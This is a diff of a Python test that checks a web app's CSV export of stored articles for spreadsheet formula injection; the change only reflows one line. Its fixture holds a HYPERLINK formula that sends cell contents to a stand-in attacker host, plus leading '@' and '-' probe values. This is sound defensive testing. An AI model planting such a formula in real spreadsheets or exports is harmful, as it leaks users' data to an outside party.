@@ -401,7 +401,9 @@ def test_the_web_csv_download_never_hands_a_spreadsheet_a_formula(sqlite_url):
 
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     with open_store(sqlite_url) as store:
-        store.save_articles([Article(text=BODY + "Formula.", title=formula, outlet="@Outlet", authors=["-me"])])
+        store.save_articles(
+            [Article(text=BODY + "Formula.", title=formula, outlet="@Outlet", authors=["-me"])]
+        )
     with client_for(sqlite_url) as client:
         response = client.get("/export/articles.csv")
     assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
